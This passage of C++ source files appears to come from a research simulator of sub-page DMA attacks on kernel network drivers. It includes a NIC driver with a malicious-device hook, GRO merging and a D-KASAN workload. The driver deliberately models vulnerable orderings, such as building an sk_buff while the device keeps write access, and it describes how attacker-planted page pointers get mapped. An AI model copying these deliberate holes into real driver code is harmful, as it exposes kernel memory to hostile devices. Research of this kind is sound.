// and compiled it concurrently with light network traffic (ICMP ping)".
//
// Simulated as interleaved exec/filesystem/socket allocations (with the
// allocation sites Figure 3 lists) and NIC RX/TX churn. With D-KASAN attached
// to the machine's allocators and DMA API, this reproduces the Figure-3
// findings: kernel metadata randomly co-located with DMA-mapped pages.

#ifndef SPV_DKASAN_WORKLOAD_H_
#define SPV_DKASAN_WORKLOAD_H_

#include <cstdint>

#include "base/status.h"
#include "core/machine.h"
#include "device/malicious_nic.h"
#include "net/nic_driver.h"

namespace spv::dkasan {

struct WorkloadConfig {
  int iterations = 200;
  uint64_t seed = 7;
  double free_probability = 0.6;
};

struct WorkloadStats {
  uint64_t allocs = 0;
  uint64_t frees = 0;
  uint64_t rx_packets = 0;
  uint64_t tx_packets = 0;
};

// Runs the build+ping mix on `machine` through `nic`/`device`. The caller
// attaches D-KASAN (or not) before running.
Result<WorkloadStats> RunBuildAndPingWorkload(core::Machine& machine, net::NicDriver& nic,
                                              device::MaliciousNic& device,
                                              const WorkloadConfig& config);

// A router under load: TCP streams arriving on `nic` are GRO-aggregated and
// forwarded back out, interleaved with connection-tracking allocations.
// Requires forwarding_enabled on the machine's network config.
Result<WorkloadStats> RunRouterWorkload(core::Machine& machine, net::NicDriver& nic,
                                        device::MaliciousNic& device,
                                        const WorkloadConfig& config);

// An NVMe-style storage workload: PRP lists and 4 KiB data buffers mapped
// BIDIRECTIONAL for a storage controller, interleaved with filesystem
// metadata allocations (inodes, dentries, journal heads) — the classic
// type (d) random-exposure mix.
Result<WorkloadStats> RunStorageWorkload(core::Machine& machine, DeviceId storage_dev,
                                         const WorkloadConfig& config);

}  // namespace spv::dkasan

#endif  // SPV_DKASAN_WORKLOAD_H_
