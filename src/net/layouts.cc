#include "net/layouts.h"

namespace spv::net {

Status SharedInfoView::Initialize() {
  SPV_RETURN_IF_ERROR(kmem_.Fill(base_, SharedInfoLayout::kSize, 0));
  return set_dataref(1);
}

Result<FragRef> SharedInfoView::frag(uint8_t index) const {
  if (index >= kMaxSkbFrags) {
    return InvalidArgument("frag index out of range");
  }
  const Kva at = base_ + SharedInfoLayout::kFrags + index * SharedInfoLayout::kFragStride;
  Result<uint64_t> page = kmem_.ReadU64(at + SharedInfoLayout::kFragPage);
  if (!page.ok()) {
    return page.status();
  }
  Result<uint32_t> offset = kmem_.ReadU32(at + SharedInfoLayout::kFragPageOffset);
  if (!offset.ok()) {
    return offset.status();
  }
  Result<uint32_t> size = kmem_.ReadU32(at + SharedInfoLayout::kFragSize);
  if (!size.ok()) {
    return size.status();
  }
  return FragRef{Kva{*page}, *offset, *size};
}

Status SharedInfoView::set_frag(uint8_t index, const FragRef& frag) {
  if (index >= kMaxSkbFrags) {
    return InvalidArgument("frag index out of range");
  }
  const Kva at = base_ + SharedInfoLayout::kFrags + index * SharedInfoLayout::kFragStride;
  SPV_RETURN_IF_ERROR(kmem_.WriteU64(at + SharedInfoLayout::kFragPage, frag.struct_page.value));
  SPV_RETURN_IF_ERROR(kmem_.WriteU32(at + SharedInfoLayout::kFragPageOffset, frag.page_offset));
  return kmem_.WriteU32(at + SharedInfoLayout::kFragSize, frag.size);
}

Status WritePacketHeader(dma::KernelMemory& kmem, Kva at, const PacketHeader& header) {
  SPV_RETURN_IF_ERROR(kmem.WriteU32(at + PacketHeader::kSrcIp, header.src_ip));
  SPV_RETURN_IF_ERROR(kmem.WriteU32(at + PacketHeader::kDstIp, header.dst_ip));
  SPV_RETURN_IF_ERROR(kmem.WriteU16(at + PacketHeader::kSrcPort, header.src_port));
  SPV_RETURN_IF_ERROR(kmem.WriteU16(at + PacketHeader::kDstPort, header.dst_port));
  SPV_RETURN_IF_ERROR(kmem.WriteU8(at + PacketHeader::kProto, header.proto));
  SPV_RETURN_IF_ERROR(kmem.WriteU8(at + PacketHeader::kFlags, header.flags));
  SPV_RETURN_IF_ERROR(kmem.WriteU16(at + PacketHeader::kLen, header.payload_len));
  return kmem.WriteU32(at + PacketHeader::kSeq, header.seq);
}

Result<PacketHeader> ReadPacketHeader(dma::KernelMemory& kmem, Kva at) {
  PacketHeader header;
  auto src_ip = kmem.ReadU32(at + PacketHeader::kSrcIp);
  if (!src_ip.ok()) {
    return src_ip.status();
  }
  header.src_ip = *src_ip;
  header.dst_ip = *kmem.ReadU32(at + PacketHeader::kDstIp);
  header.src_port = *kmem.ReadU16(at + PacketHeader::kSrcPort);
  header.dst_port = *kmem.ReadU16(at + PacketHeader::kDstPort);
  header.proto = *kmem.ReadU8(at + PacketHeader::kProto);
  header.flags = *kmem.ReadU8(at + PacketHeader::kFlags);
  header.payload_len = *kmem.ReadU16(at + PacketHeader::kLen);
  header.seq = *kmem.ReadU32(at + PacketHeader::kSeq);
  return header;
}

}  // namespace spv::net
