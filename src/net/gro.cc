#include "net/gro.h"

namespace spv::net {

Result<SkBuffPtr> GroEngine::Receive(SkBuffPtr skb) {
  if (!skb) {
    return InvalidArgument("null skb");
  }
  if (!skb->header_parsed || skb->header.proto != kProtoTcp) {
    return skb;  // pass through
  }
  const FlowKey key{skb->header.src_ip, skb->header.dst_ip, skb->header.src_port,
                    skb->header.dst_port};
  auto it = held_.find(key);
  if (it == held_.end()) {
    // First segment of the flow becomes the head.
    held_.emplace(key, std::move(skb));
    return SkBuffPtr{};
  }
  SkBuff& head = *it->second;
  SharedInfoView shinfo{kmem_, head.shared_info()};
  Result<uint8_t> nr_frags = shinfo.nr_frags();
  if (!nr_frags.ok()) {
    return nr_frags.status();
  }
  if (*nr_frags >= kMaxSkbFrags) {
    // Batch full: release the aggregate; the new segment starts a fresh head.
    SkBuffPtr done = std::move(it->second);
    it->second = std::move(skb);
    return done;
  }
  SPV_RETURN_IF_ERROR(MergeIntoHead(head, std::move(skb)));
  return SkBuffPtr{};
}

Status GroEngine::MergeIntoHead(SkBuff& head, SkBuffPtr segment) {
  // The segment's payload (past the header) becomes a frag of the head,
  // described by the struct page of the segment's data page.
  const Kva payload = segment->data + PacketHeader::kSize;
  const uint32_t payload_len = segment->linear_len() - PacketHeader::kSize;

  Result<PhysAddr> phys = kmem_.layout().DirectMapKvaToPhys(payload);
  if (!phys.ok()) {
    return phys.status();
  }
  FragRef frag;
  frag.struct_page = kmem_.layout().StructPageKva(phys->pfn());
  frag.page_offset = static_cast<uint32_t>(phys->page_offset());
  frag.size = payload_len;

  // Ownership of the segment's data buffer moves to the head skb; the
  // segment's sk_buff metadata is discarded (metadata-only free).
  SPV_RETURN_IF_ERROR(skb_alloc_.AddFrag(head, frag, segment->linear));
  for (const OwnedBuffer& extra : segment->frag_buffers) {
    head.frag_buffers.push_back(extra);
  }
  ++merged_segments_;
  return OkStatus();
}

std::vector<SkBuffPtr> GroEngine::FlushAll() {
  std::vector<SkBuffPtr> out;
  out.reserve(held_.size());
  for (auto& [key, skb] : held_) {
    out.push_back(std::move(skb));
  }
  held_.clear();
  return out;
}

}  // namespace spv::net
