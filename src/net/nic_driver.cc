#include "net/nic_driver.h"

#include <algorithm>

#include "dma/bounce_pool.h"
#include "fault/fault.h"

namespace spv::net {

namespace {

// One helper for every driver emit point: packet milestones share the shape
// (device + length + site), only kind/severity vary.
void EmitNicEvent(telemetry::Hub& hub, telemetry::EventKind kind,
                  telemetry::Severity severity, DeviceId device, uint64_t len,
                  const void* origin, std::string site) {
  if (!hub.active()) {
    return;
  }
  telemetry::Event event;
  event.kind = kind;
  event.severity = severity;
  event.device = device.value;
  event.len = len;
  event.origin = origin;
  event.site = std::move(site);
  hub.Publish(std::move(event));
}

}  // namespace

NicDriver::NicDriver(DeviceId device_id, dma::DmaApi& dma, dma::KernelMemory& kmem,
                     SkbAllocator& skb_alloc, SimClock& clock, Config config)
    : device_id_(device_id),
      dma_(dma),
      kmem_(kmem),
      skb_alloc_(skb_alloc),
      clock_(clock),
      config_(std::move(config)),
      rss_(config_.num_queues == 0 ? 1 : config_.num_queues) {
  queues_.resize(config_.num_queues == 0 ? 1 : config_.num_queues);
  for (uint32_t q = 0; q < queues_.size(); ++q) {
    Queue& queue = queues_[q];
    if (q < config_.queue_cpus.size()) {
      queue.cpu = config_.queue_cpus[q];
    } else {
      queue.cpu = CpuId{config_.cpu.value + q};
    }
    // Queue 0 keeps the bare device name so its telemetry sites and fault
    // attribution are byte-identical to the historical single-queue driver.
    queue.name = q == 0 ? config_.name : config_.name + ".q" + std::to_string(q);
    queue.rx_ring.resize(config_.rx_ring_size);
    queue.tx_ring.resize(config_.tx_ring_size);
  }
}

uint32_t NicDriver::rx_buffer_bytes() const {
  if (config_.hw_lro) {
    return kLroBufBytes;
  }
  return static_cast<uint32_t>(SkbDataAlign(config_.rx_buf_len) +
                               SkbDataAlign(SharedInfoLayout::kSize));
}

bool NicDriver::PollDeadlineHit(Queue& q, uint64_t start_cycle, std::string_view loop) {
  if (clock_.now() - start_cycle < EffectivePollDeadline()) {
    return false;
  }
  ++q.poll_deadline_hits;
  EmitNicEvent(dma_.telemetry(), telemetry::EventKind::kNicPollDeadline,
               telemetry::Severity::kWarn, device_id_, clock_.now() - start_cycle,
               this, q.name + "_" + std::string(loop));
  if (dma_.telemetry().enabled()) {
    dma_.telemetry().counter("nic.poll_deadline_exceeded").Add();
  }
  return true;
}

Status NicDriver::FillRxRing(uint32_t queue) {
  trace::ScopedSpan span(tracer_, "nic.fill_rx");
  Queue& q = queues_[queue];
  // Each queue's NAPI context owns its own deadline: the budget starts when
  // this queue's fill starts, not when the device-wide pass did.
  const uint64_t start = clock_.now();
  // Best-effort: one slot failing to fill must not leave the ones after it
  // empty; the first error is still reported.
  Status first = OkStatus();
  // Probation clamp: only the first `ring limit` descriptors are posted, so
  // an untrusted-ish device exposes proportionally less memory at a time.
  // (Sync mode tightens the limit further — persistent bounce slots are a
  // scarcer resource than kernel pages.)
  for (uint32_t i = 0; i < EffectiveRxRingLimitNow(); ++i) {
    if (q.rx_ring[i].posted) {
      continue;
    }
    if (PollDeadlineHit(q, start, "fill_rx")) {
      // Out of budget: leave the rest for the retry path instead of stalling
      // the caller on a slow map path.
      q.rx_needs_refill = true;
      break;
    }
    Status status = RefillSlot(q, queue, i);
    if (first.ok() && !status.ok()) {
      first = status;
    }
  }
  return first;
}

Status NicDriver::FillAllRxRings() {
  Status first = OkStatus();
  for (uint32_t q = 0; q < queues_.size(); ++q) {
    Status status = FillRxRing(q);
    if (first.ok() && !status.ok()) {
      first = status;
    }
  }
  return first;
}

Status NicDriver::RefillSlot(Queue& q, uint32_t queue, uint32_t index) {
  if (fault_ != nullptr && fault_->armed() &&
      fault_->ShouldInject(fault::FaultSite::kNicRxRefillStarve)) {
    return ResourceExhausted("injected: rx refill starvation");
  }
  // Ring work executes on the queue's IRQ CPU: IOVA magazine traffic for
  // this device stays CPU-local (the Linux rcache locality assumption).
  dma_.set_current_cpu(q.cpu);
  slab::PageFragPool* pool = skb_alloc_.frag_pool(q.cpu);
  if (pool == nullptr) {
    return FailedPrecondition("no page_frag pool for driver cpu");
  }
  Result<Kva> head =
      pool->Alloc(rx_buffer_bytes(), kSmpCacheBytes, q.name + "_alloc_rx_buf");
  if (!head.ok()) {
    return head.status();
  }
  // XDP programs may rewrite and retransmit the buffer, so XDP-enabled
  // drivers map RX buffers BIDIRECTIONAL — handing the device READ access to
  // the whole page on top of the usual WRITE (§5.1).
  const dma::DmaDirection rx_dir =
      config_.xdp ? dma::DmaDirection::kBidirectional : dma::DmaDirection::kFromDevice;
  const bool want_sync =
      dma_.service_mode(device_id_) == dma::ServiceMode::kBounceSync;
  if (want_sync && config_.sync_ring_limit != 0 &&
      index >= std::min(config_.sync_ring_limit, EffectiveRxRingLimit())) {
    // Live demotion shrank the ring: slots past the sync clamp retire as
    // their completions land instead of being re-armed. Not an error — the
    // slot simply stays empty until a promotion grows the ring back.
    (void)pool->Free(*head);
    return OkStatus();
  }
  // Sync mode pins the buffer to one bounce slot for the ring's life;
  // trusted devices get the byte-identical MapSingle path.
  Result<Iova> iova =
      want_sync ? dma_.MapPersistent(device_id_, *head, rx_buffer_bytes(),
                                     rx_dir, q.name + "_map_rx")
                : dma_.MapSingle(device_id_, *head, rx_buffer_bytes(), rx_dir,
                                 q.name + "_map_rx");
  if (!iova.ok()) {
    (void)pool->Free(*head);
    return iova.status();
  }
  dma::BouncePool* bounce = dma_.bounce_pool();
  const bool sync_slot =
      want_sync && bounce != nullptr && bounce->Owns(device_id_, *iova);
  q.rx_ring[index] = RxSlot{true, *head, *iova, sync_slot};
  if (device_ != nullptr) {
    RxPostedDescriptor descriptor;
    descriptor.queue = queue;
    descriptor.index = index;
    descriptor.iova = *iova;
    descriptor.buf_len = rx_buffer_bytes();
    device_->OnRxPosted(descriptor);
  }
  return OkStatus();
}

void NicDriver::RefillSlotTolerant(Queue& q, uint32_t queue, uint32_t index) {
  Status status = RefillSlot(q, queue, index);
  if (status.ok()) {
    return;
  }
  // The ring runs one slot short; RetryRefills() will try again after the
  // backoff window instead of failing the completion that noticed it.
  ++q.rx_refill_failures;
  q.rx_needs_refill = true;
  q.refill_backoff_until = clock_.now() + config_.refill_retry_backoff_cycles;
  if (dma_.telemetry().enabled()) {
    dma_.telemetry().counter("nic.rx_refill_failures").Add();
  }
}

uint32_t NicDriver::RetryRefills(uint32_t queue) {
  Queue& q = queues_[queue];
  if (!q.rx_needs_refill || clock_.now() < q.refill_backoff_until) {
    return 0;
  }
  const uint64_t start = clock_.now();
  uint32_t refilled = 0;
  bool failed = false;
  for (uint32_t i = 0; i < EffectiveRxRingLimitNow(); ++i) {
    if (q.rx_ring[i].posted) {
      continue;
    }
    if (PollDeadlineHit(q, start, "retry_refills")) {
      failed = true;  // budget spent: keep rx_needs_refill armed for later
      break;
    }
    Status status = RefillSlot(q, queue, i);
    if (!status.ok()) {
      ++q.rx_refill_failures;
      q.refill_backoff_until = clock_.now() + config_.refill_retry_backoff_cycles;
      if (dma_.telemetry().enabled()) {
        dma_.telemetry().counter("nic.rx_refill_failures").Add();
      }
      failed = true;
      break;
    }
    ++refilled;
  }
  if (!failed) {
    q.rx_needs_refill = false;
  }
  if (refilled > 0) {
    EmitNicEvent(dma_.telemetry(), telemetry::EventKind::kFaultRecovered,
                 telemetry::Severity::kInfo, device_id_, refilled, this,
                 q.name + "_rx_refill_retry");
    if (dma_.telemetry().enabled()) {
      dma_.telemetry().counter("fault.recovered.rx_refill_retry").Add();
    }
  }
  return refilled;
}

uint32_t NicDriver::RetryAllRefills() {
  uint32_t refilled = 0;
  for (uint32_t q = 0; q < queues_.size(); ++q) {
    refilled += RetryRefills(q);
  }
  return refilled;
}

Result<SkBuffPtr> NicDriver::DropRxFrame(uint32_t queue, uint32_t index, uint32_t pkt_len,
                                         std::string_view counter) {
  Queue& q = queues_[queue];
  RxSlot slot = q.rx_ring[index];
  q.rx_ring[index].posted = false;
  EmitNicEvent(dma_.telemetry(), telemetry::EventKind::kNicRxError,
               telemetry::Severity::kWarn, device_id_, pkt_len, this,
               q.name + "_rx_error");
  if (dma_.telemetry().enabled()) {
    dma_.telemetry().counter(std::string(counter)).Add();
  }
  const dma::DmaDirection rx_dir =
      config_.xdp ? dma::DmaDirection::kBidirectional : dma::DmaDirection::kFromDevice;
  if (slot.sync_mode &&
      dma_.service_mode(device_id_) == dma::ServiceMode::kBounceSync) {
    // Degraded ring: scrub the bounce slot (so the dropped frame's bytes
    // cannot be replayed into the next completion) and re-arm it in place.
    (void)dma_.SyncSingleForDevice(device_id_, slot.iova, rx_buffer_bytes(),
                                   rx_dir);
    q.rx_ring[index] = slot;
    if (device_ != nullptr) {
      RxPostedDescriptor descriptor;
      descriptor.queue = queue;
      descriptor.index = index;
      descriptor.iova = slot.iova;
      descriptor.buf_len = rx_buffer_bytes();
      device_->OnRxPosted(descriptor);
    }
    return SkBuffPtr{};
  }
  if (config_.sync_only_rx && !slot.sync_mode) {
    // Page-reuse drivers keep the buffer and its (permanent) mapping: the
    // same slot is simply reposted.
    q.rx_ring[index] = slot;
    if (device_ != nullptr) {
      RxPostedDescriptor descriptor;
      descriptor.queue = queue;
      descriptor.index = index;
      descriptor.iova = slot.iova;
      descriptor.buf_len = rx_buffer_bytes();
      device_->OnRxPosted(descriptor);
    }
    return SkBuffPtr{};
  }
  SPV_RETURN_IF_ERROR(dma_.UnmapSingle(device_id_, slot.iova, rx_buffer_bytes(), rx_dir));
  slab::PageFragPool* pool = skb_alloc_.frag_pool(q.cpu);
  if (pool != nullptr) {
    SPV_RETURN_IF_ERROR(pool->Free(slot.head));
  }
  RefillSlotTolerant(q, queue, index);
  return SkBuffPtr{};
}

Result<SkBuffPtr> NicDriver::CompleteRx(uint32_t queue, uint32_t index, uint32_t pkt_len) {
  trace::ScopedSpan span(tracer_, "nic.complete_rx");
  if (queue >= queues_.size()) {
    return FailedPrecondition("RX completion on unknown queue");
  }
  Queue& q = queues_[queue];
  if (index >= q.rx_ring.size() || !q.rx_ring[index].posted) {
    return FailedPrecondition("RX completion on empty slot");
  }
  dma_.set_current_cpu(q.cpu);
  RetryRefills(queue);
  const bool faulting = fault_ != nullptr && fault_->armed();
  if (faulting && fault_->ShouldInject(fault::FaultSite::kNicDeviceStall)) {
    // The device went quiet for a while before delivering this completion;
    // everything time-based (TX watchdog, refill backoff) sees the gap.
    clock_.Advance(fault_->magnitude(fault::FaultSite::kNicDeviceStall,
                                     SimClock::MsToCycles(1)));
  }
  const uint32_t usable =
      rx_buffer_bytes() - static_cast<uint32_t>(SkbDataAlign(SharedInfoLayout::kSize));
  bool injected_bad_len = false;
  if (faulting && fault_->ShouldInject(fault::FaultSite::kNicDescWriteback)) {
    // Descriptor writeback corruption: the length field is device-supplied
    // garbage, exactly what a malfunctioning NIC would post.
    pkt_len = static_cast<uint32_t>(
        fault_->magnitude(fault::FaultSite::kNicDescWriteback, 0xdeadbeef));
    injected_bad_len = true;
  } else if (faulting && fault_->ShouldInject(fault::FaultSite::kNicRxTruncate)) {
    pkt_len = static_cast<uint32_t>(std::min<uint64_t>(
        pkt_len, fault_->magnitude(fault::FaultSite::kNicRxTruncate, pkt_len / 2)));
    injected_bad_len = pkt_len < PacketHeader::kSize || pkt_len > usable;
  }
  if (pkt_len < PacketHeader::kSize || pkt_len > usable) {
    if (injected_bad_len) {
      // Device-originated garbage: drop with accounting and recover the slot.
      ++q.rx_length_errors;
      return DropRxFrame(queue, index, pkt_len, "nic.rx_length_errors");
    }
    // Caller misuse: reject and leave the slot posted.
    return InvalidArgument("RX packet length out of bounds");
  }
  if (faulting && fault_->ShouldInject(fault::FaultSite::kNicRxDrop)) {
    ++q.rx_device_drops;
    return DropRxFrame(queue, index, pkt_len, "nic.rx_device_drops");
  }
  RxSlot slot = q.rx_ring[index];
  q.rx_ring[index].posted = false;
  if (slot.sync_mode) {
    // The device's bytes live in the bounce slot: pull the frame across the
    // sync boundary before anything (XDP, header parse) reads the kernel
    // buffer. Only pkt_len bytes cross — the measured cost of distrust.
    const dma::DmaDirection sync_dir = config_.xdp
                                           ? dma::DmaDirection::kBidirectional
                                           : dma::DmaDirection::kFromDevice;
    Status synced =
        dma_.SyncSingleForCpu(device_id_, slot.iova, pkt_len, sync_dir);
    if (!synced.ok()) {
      q.rx_ring[index] = slot;  // restore: DropRxFrame re-arms from the ring
      ++q.rx_device_drops;
      return DropRxFrame(queue, index, pkt_len, "nic.rx_device_drops");
    }
  }
  if (faulting && fault_->ShouldInject(fault::FaultSite::kNicRxCorrupt)) {
    // Payload corruption: scribble the on-wire header before the driver
    // parses it; the stack's length/parse checks must catch it.
    (void)kmem_.Fill(slot.head, PacketHeader::kSize, 0xFF);
  }

  auto build = [&]() -> Result<SkBuffPtr> {
    Result<SkBuffPtr> skb = skb_alloc_.BuildSkb(
        slot.head, rx_buffer_bytes(),
        OwnedBuffer{slot.head, BufSource::kPageFrag, q.cpu});
    if (!skb.ok()) {
      return skb.status();
    }
    (*skb)->len = pkt_len;
    Result<PacketHeader> header = ReadPacketHeader(kmem_, (*skb)->data);
    if (header.ok()) {
      (*skb)->header = *header;
      (*skb)->header_parsed = true;
    }
    return skb;
  };

  const dma::DmaDirection rx_dir =
      config_.xdp ? dma::DmaDirection::kBidirectional : dma::DmaDirection::kFromDevice;

  // XDP runs on the raw buffer while it is still mapped BIDIRECTIONAL — the
  // program may rewrite the packet in place (§5.1's zero-copy case).
  if (config_.xdp && xdp_program_ != nullptr) {
    const XdpVerdict verdict = xdp_program_->Run(kmem_, slot.head, pkt_len);
    if (verdict != XdpVerdict::kPass) {
      SPV_RETURN_IF_ERROR(
          dma_.UnmapSingle(device_id_, slot.iova, rx_buffer_bytes(), rx_dir));
      if (verdict == XdpVerdict::kDrop) {
        ++q.xdp_drops;
        EmitNicEvent(dma_.telemetry(), telemetry::EventKind::kXdpDrop,
                     telemetry::Severity::kInfo, device_id_, pkt_len, this,
                     q.name + "_xdp_drop");
        if (dma_.telemetry().enabled()) {
          dma_.telemetry().counter("nic.xdp_drops").Add();
        }
        slab::PageFragPool* pool = skb_alloc_.frag_pool(q.cpu);
        if (pool != nullptr) {
          SPV_RETURN_IF_ERROR(pool->Free(slot.head));
        }
        SPV_RETURN_IF_ERROR(RefillSlot(q, queue, index));
        return SkBuffPtr{};
      }
      // XDP_TX: bounce the (possibly rewritten) packet straight back out.
      Result<SkBuffPtr> bounce = skb_alloc_.BuildSkb(
          slot.head, rx_buffer_bytes(),
          OwnedBuffer{slot.head, BufSource::kPageFrag, q.cpu});
      if (!bounce.ok()) {
        return bounce.status();
      }
      (*bounce)->len = pkt_len;
      Result<uint32_t> tx = PostTx(queue, std::move(*bounce));
      if (!tx.ok()) {
        return tx.status();
      }
      ++q.xdp_tx;
      EmitNicEvent(dma_.telemetry(), telemetry::EventKind::kXdpTx,
                   telemetry::Severity::kInfo, device_id_, pkt_len, this,
                   q.name + "_xdp_tx");
      if (dma_.telemetry().enabled()) {
        dma_.telemetry().counter("nic.xdp_tx").Add();
      }
      SPV_RETURN_IF_ERROR(RefillSlot(q, queue, index));
      return SkBuffPtr{};
    }
  }

  Result<SkBuffPtr> skb = InvalidArgument("unreachable");
  if (slot.sync_mode &&
      dma_.service_mode(device_id_) == dma::ServiceMode::kBounceSync) {
    // Degraded ring (kBounceSync): the slot's bounce mapping is permanent,
    // so the frame is copybroken into a fresh buffer, the skb built from the
    // copy, and the same slot scrubbed + re-armed for the device. One copy
    // per frame, zero map/unmap churn, zero queued invalidations — the
    // untrusted device keeps serving at reduced, measured speed.
    slab::PageFragPool* pool = skb_alloc_.frag_pool(q.cpu);
    if (pool == nullptr) {
      return FailedPrecondition("no page_frag pool for driver cpu");
    }
    auto rearm = [&]() {
      (void)dma_.SyncSingleForDevice(device_id_, slot.iova, rx_buffer_bytes(),
                                     rx_dir);
      q.rx_ring[index] = slot;
      if (device_ != nullptr) {
        RxPostedDescriptor descriptor;
        descriptor.queue = queue;
        descriptor.index = index;
        descriptor.iova = slot.iova;
        descriptor.buf_len = rx_buffer_bytes();
        device_->OnRxPosted(descriptor);
      }
    };
    Result<Kva> copy = pool->Alloc(rx_buffer_bytes(), kSmpCacheBytes,
                                   q.name + "_sync_copybreak");
    if (!copy.ok()) {
      // No memory for the copy: drop the frame but keep the ring armed.
      rearm();
      ++q.rx_device_drops;
      if (dma_.telemetry().enabled()) {
        dma_.telemetry().counter("nic.rx_device_drops").Add();
      }
      return SkBuffPtr{};
    }
    Status copied = kmem_.Copy(*copy, slot.head, pkt_len);
    if (!copied.ok()) {
      (void)pool->Free(*copy);
      return copied;
    }
    Result<SkBuffPtr> built = skb_alloc_.BuildSkb(
        *copy, rx_buffer_bytes(), OwnedBuffer{*copy, BufSource::kPageFrag, q.cpu});
    if (!built.ok()) {
      (void)pool->Free(*copy);
      return built.status();
    }
    (*built)->len = pkt_len;
    Result<PacketHeader> header = ReadPacketHeader(kmem_, (*built)->data);
    if (header.ok()) {
      (*built)->header = *header;
      (*built)->header_parsed = true;
    }
    rearm();
    ++q.rx_packets;
    ++q.rx_sync_frames;
    EmitNicEvent(dma_.telemetry(), telemetry::EventKind::kNicRx,
                 telemetry::Severity::kInfo, device_id_, pkt_len, this,
                 q.name + "_rx_sync");
    if (dma_.telemetry().enabled()) {
      dma_.telemetry().counter("nic.rx_packets").Add();
      dma_.telemetry().counter("nic.rx_sync_frames").Add();
    }
    return built;
  }
  if (slot.sync_mode) {
    // Promoted mid-flight: retire the persistent bounce slot through the
    // normal unmap path (the pool routes it) and let the refill below remap
    // the slot direct under the new trust state.
    SPV_RETURN_IF_ERROR(
        dma_.UnmapSingle(device_id_, slot.iova, rx_buffer_bytes(), rx_dir));
    skb = build();
  } else if (config_.sync_only_rx) {
    // Page-reuse drivers never unmap: ownership comes back via dma_sync, the
    // translation stays installed, and the device keeps WRITE access to the
    // skb's page forever (§9: "the whole page is accessible").
    SPV_RETURN_IF_ERROR(
        dma_.SyncSingleForCpu(device_id_, slot.iova, rx_buffer_bytes(), rx_dir));
    skb = build();
  } else if (config_.unmap_before_build) {
    // Correct DMA API usage: revoke first, then let the CPU initialize
    // skb_shared_info (Fig 7 path (ii)/(iii) — still attackable, but not via
    // a live mapping of this buffer).
    SPV_RETURN_IF_ERROR(
        dma_.UnmapSingle(device_id_, slot.iova, rx_buffer_bytes(), rx_dir));
    skb = build();
  } else {
    // i40e-like ordering (Fig 7 path (i)): sk_buff is built — including the
    // CPU's "legitimate" shared_info initialization — while the device still
    // has WRITE access. The device gets its race window, then we unmap.
    skb = build();
    if (device_ != nullptr) {
      device_->OnRxCompleting(queue, index);
    }
    SPV_RETURN_IF_ERROR(
        dma_.UnmapSingle(device_id_, slot.iova, rx_buffer_bytes(), rx_dir));
  }
  if (!skb.ok()) {
    return skb.status();
  }
  ++q.rx_packets;
  EmitNicEvent(dma_.telemetry(), telemetry::EventKind::kNicRx,
               telemetry::Severity::kInfo, device_id_, pkt_len, this,
               q.name + "_rx");
  if (dma_.telemetry().enabled()) {
    dma_.telemetry().counter("nic.rx_packets").Add();
  }
  // Linux refills opportunistically; we refill immediately to keep the ring
  // full (this is what makes consecutive ring buffers page-neighbours). A
  // failed refill must not lose the packet we already built — it arms the
  // retry backoff instead.
  RefillSlotTolerant(q, queue, index);
  return skb;
}

Result<uint32_t> NicDriver::PostTx(uint32_t queue, SkBuffPtr skb) {
  trace::ScopedSpan span(tracer_, "nic.post_tx");
  if (queue >= queues_.size()) {
    (void)skb_alloc_.FreeSkb(std::move(skb), nullptr);
    return FailedPrecondition("TX post on unknown queue");
  }
  Result<uint32_t> index = TryPostTx(queue, skb);
  if (!index.ok() && skb != nullptr) {
    // TryPostTx leaves the skb with the caller on failure; PostTx owns it, so
    // it is released here rather than leaked.
    (void)skb_alloc_.FreeSkb(std::move(skb), nullptr);
  }
  return index;
}

Result<uint32_t> NicDriver::TryPostTx(uint32_t queue, SkBuffPtr& skb) {
  Queue& q = queues_[queue];
  dma_.set_current_cpu(q.cpu);
  uint32_t index = 0;
  for (; index < q.tx_ring.size(); ++index) {
    if (!q.tx_ring[index].busy) {
      break;
    }
  }
  if (index == q.tx_ring.size()) {
    return ResourceExhausted("TX ring full");
  }
  TxSlot& slot = q.tx_ring[index];
  slot.busy = true;
  slot.linear_len = skb->linear_len();
  slot.post_cycle = clock_.now();

  Result<Iova> linear = dma_.MapSingle(device_id_, skb->data, slot.linear_len,
                                       dma::DmaDirection::kToDevice,
                                       q.name + "_xmit_linear");
  if (!linear.ok()) {
    slot = TxSlot{};
    return linear.status();
  }
  slot.linear_iova = *linear;

  // Map each fragment. The frag descriptors are read from the shared_info in
  // DEVICE-VISIBLE memory: whatever struct page pointers sit there — GRO's,
  // the TCP stack's, or an attacker's — get mapped for device READ.
  SharedInfoView shinfo{kmem_, skb->shared_info()};
  auto fail = [&](Status status) -> Result<uint32_t> {
    (void)UnmapTxSlot(q, slot);
    slot = TxSlot{};
    return status;
  };
  Result<uint8_t> nr_frags = shinfo.nr_frags();
  if (!nr_frags.ok()) {
    return fail(nr_frags.status());
  }
  for (uint8_t i = 0; i < *nr_frags; ++i) {
    Result<FragRef> frag = shinfo.frag(i);
    if (!frag.ok()) {
      return fail(frag.status());
    }
    Result<Pfn> pfn = kmem_.layout().StructPageKvaToPfn(frag->struct_page);
    if (!pfn.ok()) {
      // A corrupt frag page pointer would oops the real kernel; we surface it.
      return fail(InvalidArgument("TX frag with non-vmemmap struct page pointer"));
    }
    const Kva frag_kva =
        kmem_.layout().PhysToDirectMapKva(PhysAddr::FromPfn(*pfn, frag->page_offset));
    Result<Iova> frag_iova = dma_.MapSingle(device_id_, frag_kva, frag->size,
                                            dma::DmaDirection::kToDevice,
                                            q.name + "_xmit_frag");
    if (!frag_iova.ok()) {
      return fail(frag_iova.status());
    }
    slot.frags.push_back(TxFragMapping{*frag_iova, frag_kva, frag->size});
  }

  TxPostedDescriptor descriptor;
  descriptor.queue = queue;
  descriptor.index = index;
  descriptor.linear_iova = slot.linear_iova;
  descriptor.linear_len = slot.linear_len;
  for (const TxFragMapping& frag : slot.frags) {
    descriptor.frag_iovas.push_back(frag.iova);
    descriptor.frag_lens.push_back(frag.len);
  }
  slot.skb = std::move(skb);
  ++q.tx_packets;
  EmitNicEvent(dma_.telemetry(), telemetry::EventKind::kNicTx,
               telemetry::Severity::kInfo, device_id_, slot.linear_len, this,
               q.name + "_tx");
  if (dma_.telemetry().enabled()) {
    dma_.telemetry().counter("nic.tx_packets").Add();
  }
  if (device_ != nullptr) {
    device_->OnTxPosted(descriptor);
  }
  return index;
}

Status NicDriver::UnmapTxSlot(Queue& q, TxSlot& slot) {
  dma_.set_current_cpu(q.cpu);
  // Attempt every unmap even if one fails — an early return here would strand
  // the remaining frag mappings with no one left holding their IOVAs.
  Status first = dma_.UnmapSingle(device_id_, slot.linear_iova, slot.linear_len,
